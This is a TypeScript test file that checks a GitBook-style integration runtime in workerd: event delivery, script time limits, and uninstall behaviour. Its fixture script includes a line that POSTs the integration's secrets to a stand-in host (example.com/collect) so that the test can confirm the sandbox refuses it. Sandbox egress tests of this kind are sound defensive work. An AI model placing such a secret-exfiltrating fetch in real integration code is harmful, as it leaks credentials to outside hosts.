// Integration scripts run in workerd (the optional `workerd` package), as GitBook runs
// them: a merge delivers space_content_updated to the script of every integration
// installed on the space, with GitBook's event and environment; the script's outbound
// requests reach only the hosts allowed; a script that never answers is stopped at its
// time limit; an integration uninstalled from the space receives nothing more.
import { execFileSync } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventsDelivered, request, startTestApp, stopTestApp, type TestApp } from '../helpers/app.ts';
import { buildOrganization, type Organization } from '../helpers/factories.ts';
import { jobHandlers } from '../../src/jobs/handlers.ts';
import { runDueJobs } from '../../src/jobs/queue.ts';
import { findWorkerd } from '../../src/sandbox/sandbox.ts';

/** Why the runtime cannot run on this machine, if it cannot: those tests then skip, saying so. */
function runtimeMissing(): string | undefined {
  const found = findWorkerd();
  if ('missing' in found) return found.missing;
  try {
    execFileSync(found.binary, ['--version'], { stdio: 'pipe' });
    return undefined;
  } catch (error) {
    return `workerd does not run here: ${(error as Error).message}`;
  }
}
const missing = runtimeMissing();
if (missing) console.warn(`skipping the integration runtime tests: ${missing}`);

let receiver: Server;
let receiverHost: string;
const received: Array<{ path: string; body: string }> = [];
let testApp: TestApp;
let org: Organization;

beforeAll(async () => {
  receiver = createServer((incoming, response) => {
    let body = '';
    incoming.on('data', (chunk) => (body += chunk));
    incoming.on('end', () => {
      received.push({ path: incoming.url!, body });
      response.end('noted');
    });
  });
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  receiverHost = `127.0.0.1:${(receiver.address() as AddressInfo).port}`;
  testApp = await startTestApp({ QUIRE_ALLOW_PRIVATE_URLS: 'true', QUIRE_INTEGRATION_HOSTS: receiverHost, QUIRE_INTEGRATION_TIMEOUT: '2' });
  org = await buildOrganization(testApp, 'Runtime');
});

afterAll(async () => {
  await stopTestApp(testApp);
  await new Promise((resolve) => receiver.close(resolve));
});

/** A script as GitBook's runtime would be built: a module whose fetch handler reads the multipart event. */
const reporter = (host: string) => `export default {
  async fetch(request, env, ctx) {
    const form = await request.formData();
    const event = JSON.parse(form.get('event'));
    const environment = JSON.parse(form.get('environment'));
    const refused = await fetch('https://example.com/collect', { method: 'POST', body: JSON.stringify(environment.secrets) });
    ctx.waitUntil(fetch('http://${host}/later', { method: 'POST', body: event.eventId }));
    await fetch('http://${host}/received', { method: 'POST', body: JSON.stringify({ path: new URL(request.url).pathname, event, environment, refused: refused.status }) });
    return new Response('OK');
  },
};
`;
const endless = 'export default { async fetch() { for (;;) {} } };\n';

const call = (method: 'GET' | 'POST' | 'DELETE', url: string, body?: unknown) => request(testApp.app, method, url, { token: org.admin.token, body });

async function publish(script: string) {
  const published = await call('POST', '/v1/integrations/notifier', { title: 'Notifier', description: 'Tells a chat room', scopes: ['space:content:read'], organization: org.organizationId, visibility: 'private', secrets: { WEBHOOK_KEY: 'k-123' }, script });
  expect(published.status, JSON.stringify(published.body)).toBeLessThan(300);
  return published.body;
}

async function mergeNewPage(spaceId: string, title: string) {
  const changeRequest = (await call('POST', `/v1/spaces/${spaceId}/change-requests`, {})).body;
  await call('POST', `/v1/spaces/${spaceId}/change-requests/${changeRequest.id}/content`, { changes: [{ operation: 'insert_page', document: `# ${title}` }] });
  expect((await call('POST', `/v1/spaces/${spaceId}/change-requests/${changeRequest.id}/merge`)).body.result).toBe('merge');
  return (await call('GET', `/v1/spaces/${spaceId}`)).body.revision as string;
}

async function waitFor<T>(what: string, probe: () => Promise<T | undefined> | T | undefined): Promise<T> {
  for (let attempt = 0; attempt < 400; attempt++) {
    const found = await probe();
    if (found !== undefined) return found;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error(`timed out waiting for ${what}`);
}

const deliveryFor = (installationId: string) =>
  testApp.database.db.selectFrom('event_deliveries').selectAll().where('subscriber', '=', `integration:${installationId}`).orderBy('updated_at', 'desc').executeTakeFirst();

describe.skipIf(missing !== undefined)('integration scripts in workerd', () => {
  let spaceId: string;
  let installationId: string;

  it("delivers space_content_updated to the script of an integration installed on the space, with GitBook's event and environment; its request to a host not allowed is refused", async () => {
    await publish(reporter(receiverHost));
    spaceId = (await call('POST', `/v1/orgs/${org.organizationId}/spaces`, { title: 'Handbook' })).body.id;
    installationId = (await call('POST', '/v1/integrations/notifier/installations', { organization: org.organizationId })).body.id;
    expect((await call('POST', `/v1/integrations/notifier/installations/${installationId}/spaces`, { space: spaceId })).status).toBeLessThan(300);

    const revision = await mergeNewPage(spaceId, 'Launch notes');
    const report = await waitFor('the script to report', () => received.find((entry) => entry.path === '/received'));
    const { path, event, environment, refused } = JSON.parse(report.body);
    expect(path).toBe('/v1');
    expect(event).toMatchObject({ type: 'space_content_updated', spaceId, revisionId: revision, installationId, eventId: expect.any(String), updatedBy: [{ object: 'user', id: org.admin.userId }] });
    expect(environment).toMatchObject({
      apiEndpoint: 'http://quire.test',
      integration: { object: 'integration', name: 'notifier', version: 1, owner: { id: org.organizationId } },
      installation: { id: installationId, target: { organization: org.organizationId } },
      spaceInstallation: { integration: 'notifier', installation: installationId, space: spaceId },
      secrets: { WEBHOOK_KEY: 'k-123' },
      signingSecrets: { integration: expect.stringMatching(/^[0-9a-f]{64}$/), installation: expect.stringMatching(/^[0-9a-f]{64}$/) },
    });
    expect(refused).toBe(403);
    // What the script left to waitUntil ran too.
    await waitFor('the waitUntil request', () => received.find((entry) => entry.path === '/later' && entry.body === event.eventId));
    await eventsDelivered(testApp);
    expect(await deliveryFor(installationId)).toMatchObject({ state: 'done', attempts: 1, last_error: null });
  }, 30_000);

  it('stops a script that never answers at its time limit, records why, and runs the next version once published', async () => {
    await publish(endless);
    received.length = 0;
    await mergeNewPage(spaceId, 'Stuck');
    const failed = await waitFor('the delivery to fail', async () => {
      const delivery = await deliveryFor(installationId);
      return delivery?.last_error ? delivery : undefined;
    });
    expect(failed).toMatchObject({ state: 'pending', attempts: 1 });
    expect(failed.last_error).toBe('the script did not answer within its 2000 ms (QUIRE_INTEGRATION_TIMEOUT); the runtime was restarted to stop it');

    // The retry, after its backoff, runs the version published since, in a restarted runtime.
    await publish(reporter(receiverHost));
    testApp.clock.advance(5_000);
    await runDueJobs(testApp.app.ctx, jobHandlers);
    expect(await deliveryFor(installationId)).toMatchObject({ state: 'done', attempts: 2 });
    expect(JSON.parse(received.find((entry) => entry.path === '/received')!.body).environment.integration.version).toBe(3);
  }, 30_000);

  it('sends nothing more to an integration uninstalled from the space', async () => {
    expect((await call('DELETE', `/v1/integrations/notifier/installations/${installationId}/spaces/${spaceId}`)).status).toBe(204);
    received.length = 0;
    await mergeNewPage(spaceId, 'After');
    await eventsDelivered(testApp);
    const lastEvent = await testApp.database.db.selectFrom('events').select('id').where('space_id', '=', spaceId).orderBy('created_at', 'desc').executeTakeFirstOrThrow();
    const deliveries = await testApp.database.db.selectFrom('event_deliveries').select('subscriber').where('event_id', '=', lastEvent.id).execute();
    expect(deliveries.map((row) => row.subscriber)).not.toContain(`integration:${installationId}`);
    expect(received).toEqual([]);
  }, 30_000);
});
